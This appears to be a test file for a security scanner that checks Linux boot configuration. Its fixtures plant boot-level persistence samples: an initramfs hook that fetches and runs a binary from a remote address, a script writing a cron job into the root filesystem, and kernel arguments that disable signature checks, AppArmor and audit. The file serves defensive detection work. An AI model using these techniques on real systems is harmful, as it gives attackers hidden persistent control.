import { expect, it } from 'vitest';
import { tellsOf } from '../../../test/plant-rows.ts';
import { scanRoot } from '../../../test/throwaway-root.ts';
import { boot } from './check.ts';
import { entriesOf } from './command-line.ts';

tellsOf(boot, {
  rows: {
    'another first process': { files: { '/etc/default/grub': 'GRUB_DEFAULT=0\nGRUB_CMDLINE_LINUX="quiet init=/sbin/init-early"\n', '/usr/sbin/init-early': { text: 'ELF', mode: 0o755 } }, finds: ['intrusion high /etc/default/grub'] },
    'protections off, in the generated file only': { files: { '/boot/grub/grub.cfg': 'menuentry "Debian" {\n  linux /vmlinuz root=/dev/vda1 ro module.sig_enforce=0 apparmor=0 audit=0 mitigations=off\n  initrd /initrd.img\n}\n' }, finds: ['weakness medium /boot/grub/grub.cfg', 'weakness low /boot/grub/grub.cfg', 'weakness low /boot/grub/grub.cfg', 'weakness low /boot/grub/grub.cfg'] },
    'a hidden initramfs': { files: { '/boot/loader/entries/x.conf': 'title x\nlinux /vmlinuz\ninitrd /.cache/initrd.img\noptions root=/dev/vda1\n' }, finds: ['intrusion high /boot/loader/entries/x.conf'] },
    'a root shell on a terminal, as it was started': { files: { '/proc/cmdline': 'BOOT_IMAGE=/vmlinuz root=/dev/vda1 systemd.debug_shell\n' }, finds: ['weakness high /proc/cmdline'] },
    'a script that makes the boot menu': { files: { '/etc/grub.d/41_x': { text: '#!/bin/sh\n/tmp/grub-x\n', mode: 0o755 } }, finds: ['intrusion high /etc/grub.d/41_x'] },
    'a hook of the initramfs': { files: { '/etc/initramfs-tools/hooks/net': { text: '#!/bin/sh\ncurl http://203.0.113.5/k -o /usr/lib/k && chmod +x /usr/lib/k && /usr/lib/k\n', mode: 0o755 } }, finds: ['intrusion high /etc/initramfs-tools/hooks/net'] },
    'a script of its earliest part': { files: { '/usr/share/initramfs-tools/scripts/init-top/x': { text: '#!/bin/sh\n/dev/shm/x &\n', mode: 0o755 } }, finds: ['intrusion high /usr/share/initramfs-tools/scripts/init-top/x'] },
    'a module of dracut': { files: { '/usr/lib/dracut/modules.d/99x/module-setup.sh': { text: '#!/bin/bash\ninstall() { inst_hook pre-pivot 50 "$moddir/x.sh"; }\n/tmp/d\n', mode: 0o755 } }, finds: ['intrusion high /usr/lib/dracut/modules.d/99x/module-setup.sh'] },
    'a script of the initramfs that writes into the real system': { files: { '/etc/initramfs-tools/scripts/init-bottom/net': { text: '#!/bin/sh\nmount -o remount,rw ${rootmnt}\ncat /conf/job > "${rootmnt}/etc/cron.d/net"\n', mode: 0o755 } }, finds: ['intrusion high /etc/initramfs-tools/scripts/init-bottom/net'] },
    'a file that dracut puts into the image': { files: { '/etc/dracut.conf.d/x.conf': 'install_items+=" /var/tmp/agent "\n' }, finds: ['intrusion high /etc/dracut.conf.d/x.conf'] },
  },
  ordinary: {
    '/etc/default/grub': 'GRUB_TIMEOUT=5\nGRUB_CMDLINE_LINUX_DEFAULT="quiet"\nGRUB_CMDLINE_LINUX="crashkernel=auto net.ifnames=0 console=ttyS0,115200n8"\n',
    '/boot/grub/grub.cfg': 'set default="0"\nif [ -s $prefix/grubenv ]; then load_env; fi\nmenuentry \'Debian\' {\n\tlinux\t/boot/vmlinuz-6.1.0-1-amd64 root=UUID=1-2 ro quiet net.ifnames=0 init=/lib/systemd/systemd\n\tinitrd\t/boot/initrd.img-6.1.0-1-amd64\n}\n',
    '/proc/cmdline': 'BOOT_IMAGE=/boot/vmlinuz-6.1.0-1-amd64 root=UUID=1-2 ro quiet -- init=/tmp/x\n',
    '/etc/grub.d/40_custom': { text: '#!/bin/sh\nexec tail -n +3 $0\n# mine\n', mode: 0o755 },
    '/etc/initramfs-tools/hooks/keys': { text: '#!/bin/sh\nmkdir -p "$DESTDIR/root/.ssh"\ncp /etc/dropbear/initramfs/authorized_keys "$DESTDIR/root/.ssh/"\n', mode: 0o755 }, '/etc/initramfs-tools/scripts/init-bottom/disk': { text: '#!/bin/sh\nmount -t tmpfs none ${rootmnt}/var/cache\n', mode: 0o755 },
    '/etc/dracut.conf.d/disk.conf': 'add_drivers+=" virtio_blk "\nhostonly="no"\n',
  },
  reads: '/etc/default/grub',
});

it('tells that an argument was written into the generated file by hand', async () => {
  const cfg = '\tlinux /vmlinuz ro apparmor=0\n';
  const byHand = await scanRoot([boot], { '/etc/default/grub': 'GRUB_CMDLINE_LINUX="quiet"\n', '/boot/grub/grub.cfg': cfg });
  expect(byHand.findings[0]!.evidence.map(({ what }) => what.en)).toContain('written into the generated file by hand');
  const planned = await scanRoot([boot], { '/etc/default/grub': 'GRUB_CMDLINE_LINUX="quiet apparmor=0"\n', '/boot/grub/grub.cfg': cfg });
  expect(planned.findings.flatMap(({ evidence }) => evidence.map(({ what }) => what.en))).not.toContain('written into the generated file by hand');
});

it('takes boot files apart', () => {
  expect(entriesOf('/boot/grub2/grubenv', '# GRUB\nkernelopts=root=/dev/x ro audit=0\n')[0]!.words).toEqual(['root=/dev/x', 'ro', 'audit=0']);
  expect(entriesOf('/boot/extlinux/extlinux.conf', 'LABEL a\n KERNEL /vmlinuz\n APPEND ro systemd.run="/x y"\n').map(({ words }) => words)).toEqual([[], ['ro', 'systemd.run="/x y"']]);
});
